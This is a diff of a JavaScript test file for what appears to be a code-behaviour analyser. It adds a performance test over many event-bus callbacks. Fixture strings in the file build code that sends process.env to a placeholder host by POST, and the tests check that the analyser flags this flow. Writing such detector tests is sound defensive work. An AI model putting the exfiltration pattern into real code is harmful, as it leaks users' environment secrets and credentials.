@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 
 import { behaviourOf, flowLines } from '../../test/behave.ts';
+import { growsEvenly } from '../../test/effort.ts';
 
 const SEND = `fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(said) })`;
 const BUS = `const { EventEmitter } = require('events'); const bus = new EventEmitter();`;
@@ -42,6 +43,13 @@ describe('callbacks that are made', () => {
       tick() { for (const job of this.jobs.values()) setTimeout(() => this.run(job), 1) } run({ said }) { ${SEND} } } const jobs = new Jobs(); jobs.add(process.env); jobs.tick();`;
     assert.ok(flowLines({ 'index.js': code }).includes('process.env → fetch as content'));
   });
+
+  it('take as long as there are calls that they are handed to', () =>
+    growsEvenly(1_000, size => {
+      const calls = Array.from({ length: size }, (_, at) => `bus.on('e${at}', heard);`).join(' ');
+      const code = `${BUS} function on(heard) { ${calls} } ${'on(said => fetch(said)); '.repeat(16)}`;
+      return () => void behaviourOf({ 'index.js': code });
+    }));
 
   it('run for nobody where the maker is only offered', () =>
     assert.deepEqual(behaviourOf({ 'index.js': `exports.sender = () => () => fetch('https://a.invalid')` }).effects[0]?.triggers, [
